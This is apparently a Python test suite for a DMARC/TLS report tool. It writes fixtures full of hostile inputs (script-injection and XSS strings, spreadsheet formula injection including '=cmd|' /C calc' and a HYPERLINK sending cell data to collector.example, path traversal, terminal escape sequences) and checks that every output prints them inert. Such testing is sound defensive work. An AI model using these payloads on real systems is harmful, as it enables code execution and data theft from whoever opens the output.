#!/usr/bin/env python3
"""Hostile text: reports whose every text, and files whose every name, holds what would hurt a page, a spreadsheet or a
terminal. Whatever prints it prints it inert.

  text.py               the suite: TAP; $RUAD names the binary
  text.py --write DIR   writes the files and ends; browser/check.mjs imports them
"""
import csv
import io
import json
import os
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import samples  # noqa: E402
from harness import Tap, fetch, folder, ruad, serving  # noqa: E402

MARK = "hostile-mark"
SCRIPT = "window.ruadHostile=1;alert(1)"
LONG = 64 * 1024 - 1                            # the longest text of one element that is read at all

# (name, text). XML 1.0 can hold neither a NUL nor most control characters: those come by mail, JSON and file names.
TEXTS = (
    ("script", "<script>%s</script><%s>" % (SCRIPT, MARK)),
    ("quotes", "\"><img src=x onerror=\"%s\"><%s x='" % (SCRIPT, MARK)),
    ("single", "' onmouseover='%s' x='" % SCRIPT),
    ("svg", "</title></svg></textarea></style>--><svg/onload=%s><%s>" % (SCRIPT, MARK)),
    ("entity", "&lt;script&gt;%s&lt;/script&gt; &amp;lt;%s&gt; &#60;%s&#62;" % (SCRIPT, MARK, MARK)),
    ("address", "javascript:%s//" % SCRIPT),
    ("data", "data:text/html,<script>%s</script>" % SCRIPT),
    ("template", "{{{title}}} {{>head}} {{#nav}}%s{{/nav}} {{=<%% %%>=}} ${7*7}" % MARK),
    ("query", "univ.example&class=full#x?a=b;c,d%00%0d%0aSet-Cookie:%20x=y"),
    ("overrides", "\u202eelpmaxe.vinu\u202c \u2066a\u2069 \u200fb\u200e \u061cc \u2028d\u2029e"),
    ("unseen", "a\u200bb\ufeffc\u00add\u2060e\ufff9f\ue000g"),
    ("c1", "\u009b31mred\u0085next\u0090device\u009c\u007f"),
    ("marks", "z" + "\u0301\u0323" * 300),
    ("formula", "=cmd|' /C calc'!A0"),
    ("plus", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("blank", "  =HYPERLINK(\"https://collector.example/\"&A1,\"click\")"),
    ("tab", "\t=1+1"),
    ("line", "one\n=2+2\r\n\"three\",=4"),
    ("format", "%s%n%d%x %2$s \\u003cscript\\u003e \\x1b[31m \\033[0m"),
    ("path", "../../../../etc/passwd"),
    ("long", "long" + "x" * (LONG - 4)),
    ("long-words", ("word " * (LONG // 5))[:LONG - 1] + "w"),
    ("long-html", ("<b>\"'&" * (LONG // 6))[:LONG]),
    ("long-wide", "\U0001f600\u4e2d" * (LONG // 7)),
)
# What XML cannot hold, for names of files and parts, headers and JSON.
RAW = (
    ("escape", "\x1b[31m\x1b]0;title\x07\x1b[2J\x1b[?1049h"),
    ("bell", "a\x07b\x08c\x7fd\re"),
    ("bytes", "\udcff\udcfe\udc80"),            # no UTF-8, as a file's name may be
)

# What base/text.h calls a control or direction mark, but for the ends of lines.
STEERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;").replace("\r", "&#13;")


def element(name, *inside):
    return "<%s>%s</%s>" % (name, "".join(inside), name)


def row_xml(text, number, disposition):
    """A row whose every text is hostile but for address, count and verdict, which are what makes it one."""
    t, fails = escape(text), disposition != "pass"
    evaluated = element("policy_evaluated", element("disposition", "none" if not fails else disposition),
                        element("dkim", "fail" if fails else "pass"), element("spf", "fail"),
                        element("reason", element("type", "local_policy"), element("comment", t)),
                        element("reason", element("type", t), element("comment", t + " arc=pass")))
    dkim = element("dkim", element("domain", t), element("selector", t), element("result", "fail" if fails else "pass"),
                   element("human_result", t))
    odd = element("dkim", element("domain", "univ.example"), element("selector", t), element("result", t))
    spf = element("spf", element("domain", t), element("scope", t), element("result", "fail"), element("human_result", t))
    return element("record", element("row", element("source_ip", "192.0.2.%d" % (number % 250 + 1)), element("count", "7"),
                                     evaluated),
                   element("identifiers", element("header_from", t if number % 2 else "univ.example"),
                           element("envelope_from", t), element("envelope_to", t)),
                   element("auth_results", dkim, odd, spf))


def report_xml(text, number):
    t, begin = escape(text), samples.FIRST + (number % 14) * samples.DAY
    rows = "".join(row_xml(text, 10 * number + i, disposition)
                   for i, disposition in enumerate(("pass", "none", "none", "quarantine", "reject")))
    metadata = element("report_metadata", element("org_name", t), element("email", t), element("extra_contact_info", t),
                       element("report_id", t), element("error", t), element("generator", t),
                       element("date_range", element("begin", str(begin)), element("end", str(begin + samples.DAY - 1))))
    policy = element("policy_published", element("domain", t if number % 3 == 0 else "univ.example"), element("adkim", t),
                     element("aspf", "r"), element("p", "none"), element("sp", t), element("fo", t),
                     element("discovery_method", t))
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + element("feedback", element("version", t), metadata, policy, rows)


def tls_json(text, number):
    day = "2025-09-%02d" % (15 + number % 14)
    failure = {"result-type": text if number % 2 else "certificate-expired", "sending-mta-ip": "192.0.2.1",
               "receiving-mx-hostname": text, "receiving-mx-helo": text, "receiving-ip": "192.0.2.2",
               "failed-session-count": 3, "additional-information": text, "failure-reason-code": text}
    policy = {"policy": {"policy-type": "sts" if number % 2 else text, "policy-string": [text], "mx-host": [text],
                         "policy-domain": text if number % 3 == 0 else "univ.example"},
              "summary": {"total-successful-session-count": 40, "total-failure-session-count": 3},
              "failure-details": [failure]}
    return json.dumps({"organization-name": text, "contact-info": text, "report-id": "%s %d" % (text, number),
                       "date-range": {"start-datetime": day + "T00:00:00Z", "end-datetime": day + "T23:59:59Z"},
                       "policies": [policy]})


def file_name(text, ending):
    """Of at most 255 bytes, as a disk takes it."""
    data = text.replace("/", "\u2215").replace("\x00", "").encode("utf-8", "surrogateescape")[:200]
    return data.decode("utf-8", "ignore").encode() + ending if b"\xff" not in data else data + ending


def header(text):
    return text.encode("utf-8", "surrogateescape").replace(b"\r", b" ").replace(b"\n", b" ")[:3000]


def mail(text, data):
    """The report as an attachment of that name, in a mail whose headers hold it, too."""
    h = header(text).replace(b"\"", b"'").replace(b"\\", b"/")
    return (b"From: \"" + h + b"\" <dmarc@receiver.example>\r\nTo: dmarc@univ.example\r\nSubject: " + header(text) +
            b"\r\nMessage-ID: <" + h[:60].replace(b">", b"").replace(b"<", b"") + b"@receiver.example>\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: application/xml; name=\"" + h + b".xml\"\r\nContent-Disposition: attachment; filename=\"" + h +
            b".xml\"\r\n\r\n" + data.encode("utf-8", "surrogateescape"))


def write(top):
    """All files below `top`; gives how many reports there are to be read."""
    at = os.fsencode(top)
    os.makedirs(at, exist_ok=True)

    def put(name, data):
        with open(os.path.join(at, name), "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode("utf-8", "surrogateescape"))

    for i, (name, text) in enumerate(TEXTS):
        put(b"report-%s.xml" % name.encode(), report_xml(text, i))
        put(b"tls-%s.json" % name.encode(), tls_json(text, i))
        put(b"mail-%s.eml" % name.encode(), mail(text, samples.report(i % 14, report_id="mailed %d" % i)))
    for i, (name, text) in enumerate(TEXTS + RAW):
        put(file_name(text, b".xml"), samples.report(i % 14, report_id="named %d" % i))
        put(file_name("no " + text, b".gz"), b"this is no report")
        if name != "bytes":
            put(b"zip-%s.zip" % name.encode(), samples.zipped(samples.report(i % 14, report_id="zipped %d" % i), text[:2000] + ".xml"))
    for name, text in RAW:
        put(b"raw-%s.eml" % name.encode(), mail(text, samples.report(3, report_id="raw " + name)))
        if name != "bytes":
            put(b"tls-%s.json" % name.encode(), tls_json(text, 2))


# --- the suite: programs and terminals; the pages are browser/check.mjs's ---

def steers(data, also=""):
    """The first place that would steer a terminal, or None. Ends of lines may stand, and what `also` names."""
    text = data.decode(errors="replace")
    found = STEERS.search(text)
    while found and found.group() in also:
        found = STEERS.search(text, found.end())
    return found and repr(text[max(0, found.start() - 60):found.end() + 20])


def verbs():
    """The verbs that ask and change nothing, by their own help: those that take a period, or list what people wrote."""
    said = ruad("--help").stdout.decode()
    names = re.findall(r"^  ([a-z]+) {2,}\S", said, re.M)
    return [name for name in names if b"--period" in ruad(name, "--help").stdout or name in ("notes", "blockers")]


def check_verbs(tap, db):
    names = verbs()
    tap.case("summary" in names and "records" in names, "the verbs that ask are found", names)
    for verb in names:
        period = () if verb in ("notes", "blockers") else ("--period", "all")
        for options in ((), ("--format", "json"), ("--format", "csv"), ("--format", "ndjson"), ("--by", "reporter"), ("--by", "domain")):
            done = ruad("--db", db, verb, *period, *options, ok=(0, 1, 2, 3))
            if done.returncode in (2, 3) and options:
                continue                        # not every verb takes every option
            bad = steers(done.stdout) or steers(done.stderr)
            tap.case(done.returncode in (0, 1) and not bad, "%s: no byte that steers a terminal" % " ".join((verb, *options)),
                     bad or done)
            if options == ():
                wide = [line for line in done.stdout.decode().splitlines() if len(line) > 200]
                tap.case(not wide, "%s: no line of it is endless" % verb, wide[:1])
            if options == ("--format", "csv"):
                cells = [c for line in csv.reader(io.StringIO(done.stdout.decode(), newline="")) for c in line]
                bad = [c for c in cells if re.match(r"\s*[=+\-@\t\r]", c) and not re.fullmatch(r"-?[0-9.]+", c)]
                tap.case(not bad, "%s as CSV: no cell is a formula" % verb, bad[:3])


def check_journal(tap, db, url):
    """What people write down is text from outside, too: whatever stands in any field of it, pages, data and terminal print it inert."""
    said = {"Content-Type": "application/json", "Sec-Fetch-Site": "same-origin"}

    def send(method, path, fields):
        return fetch(url + path, said, method, json.dumps(fields).encode("utf-8", "replace"))[0]

    answers, odd = [], []
    for name, text in TEXTS + RAW[:2]:
        short = text[:190].encode("utf-8", "replace")[:190].decode("utf-8", "ignore")
        long = text.encode("utf-8", "replace")[:1900].decode("utf-8", "ignore")
        answers.append(send("POST", "/api/v1/notes", {"day": "2025-09-20", "text": long, "source": short, "name": short}))
        answers.append(send("POST", "/api/v1/confirmations", {"domain": "univ.example", "step": "rehearse", "check": short, "text": long,
                                                              "name": short}))
        answers.append(send("POST", "/api/v1/blockers", {"domain": "univ.example", "text": long, "owner": short, "state": "accepted",
                                                         "reason": long, "until": "2999-12-31", "note": long, "source": short,
                                                         "name": short, "key": long}))
        refused = send("POST", "/api/v1/notes", {"text": "x", "domain": long}), send("POST", "/api/v1/notes", {"text": "x", "day": long})
        if set(refused) != {422} or send("PATCH", "/api/v1/blockers/1", {"state": long}) != 422:
            odd.append("%s is no domain, day or state: %s" % (name, refused))
    tap.case(set(answers) == {201} and not odd, "what people write is kept, and what is no domain, day or state refused", (answers, odd))
    odd = []
    for page in ("/rollout/notes", "/rollout/confirmations", "/rollout/blockers", "/?period=all", "/settings/audit", "/domains/univ.example?period=all",
                 *("/rollout/%s/%d" % (kind, n) for kind in ("notes", "blockers") for n in range(1, len(TEXTS) + 3))):
        status, headers, body = fetch(url + page)
        if status != 200 or steers(body) or b"<" + MARK.encode() in body or b"<script>w" in body or b"onerror=\"" in body:
            odd.append("%s: %d %s" % (page, status, steers(body)))
    for list_ in ("notes", "confirmations", "blockers"):
        body = fetch(url + "/rollout/%s?format=csv" % list_)[2]
        cells = [c for line in csv.reader(io.StringIO(body.decode(), newline="")) for c in line]
        odd += [c[:80] for c in cells if re.match(r"\s*[=+\-@\t\r]", c)] + [steers(body)] * bool(steers(body))
        if len(json.loads(fetch(url + "/api/v1/" + list_)[2])["data"]) != len(TEXTS) + 2:
            odd.append("%s: not all are listed" % list_)
    tap.case(not odd, "whatever people wrote is printed inert", "\n".join(odd))


def check_filters(tap, db, url):
    """A hostile value as a parameter, too: found, or refused, and never as it is."""
    for name, text in TEXTS[:21] + RAW[:2]:
        for parameter in ("reporter", "selector", "q", "domain", "nothing"):
            done = ruad("--db", db, "records", "--period", "all", "--" + parameter, text, ok=(0, 1, 2))
            bad = steers(done.stdout) or steers(done.stderr)
            if bad:
                tap.case(False, "records --%s %s" % (parameter, name), bad)
    tap.case(True, "hostile filters on the command line are answered inert")
    odd = []
    for name, text in TEXTS[:21] + RAW[:2]:
        for path in ("/?q=%s", "/records?reporter=%s", "/records?domain=%s", "/?%s=1", "/%s", "/reports/%s", "/sources/%s",
                     "/domains/%s", "/help/%s", "/ingest/%s", "/api/v1/%s"):
            quoted = "".join("%%%02X" % b for b in text.encode())
            for accept in ("text/html", "application/json"):
                status, headers, body = fetch(url + path % quoted, {"Accept": accept})
                kind = headers.get("Content-Type", "")
                markup = b"<" + MARK.encode() in body or b"<script>" in body or b"onerror=\"" in body.replace(b"&quot;", b"")
                if status >= 500 or steers(body) or headers.get("X-Content-Type-Options") != "nosniff" or (
                        "html" in kind and markup) or any(c in str(headers) for c in "\x1b\x07"):
                    odd.append("%s %s (%s): %d %s" % (path, name, accept, status, steers(body) or kind))
    tap.case(not odd, "hostile addresses are answered inert", "\n".join(odd))


def main():
    if sys.argv[1:2] == ["--write"]:
        write(sys.argv[2])
        return
    tap = Tap()
    with folder() as top:
        files, db = os.path.join(top, "files"), os.path.join(top, "a.db")
        write(files)
        with tap.guard("import"):
            done = ruad("--db", db, "import", files, ok=(0, 1))
            tap.case(not steers(done.stdout) and not steers(done.stderr), "import: no byte that steers a terminal",
                     steers(done.stdout) or steers(done.stderr))
            done = ruad("--db", db, "import", "--format", "json", files, ok=(0, 1))
            tap.case(not steers(done.stdout), "import as JSON: none either", steers(done.stdout))
            done = ruad("parse", files, ok=(0, 1))
            tap.case(not steers(done.stdout) and not steers(done.stderr), "parse: none either", steers(done.stdout) or steers(done.stderr))
            read = {json.loads(line).get("org_name", "")[:400] for line in done.stdout.splitlines()}
            lost = [name for name, text in TEXTS[:9] if text[:400].strip() not in read]
            tap.case(not lost, "the texts arrive as they were written", lost)
        with tap.guard("journal"), serving(db) as url:
            check_journal(tap, db, url)
        with tap.guard("verbs"):
            check_verbs(tap, db)
        with tap.guard("filters"), serving(db) as url:
            check_filters(tap, db, url)
        for verb in ("verify", "digest"):
            with tap.guard(verb):
                done = ruad("--db", db, verb, ok=(0, 1, 2))
                tap.case(not steers(done.stdout) and not steers(done.stderr), "%s: no byte that steers a terminal" % verb,
                         steers(done.stdout) or steers(done.stderr))
    tap.end()


if __name__ == "__main__":
    main()
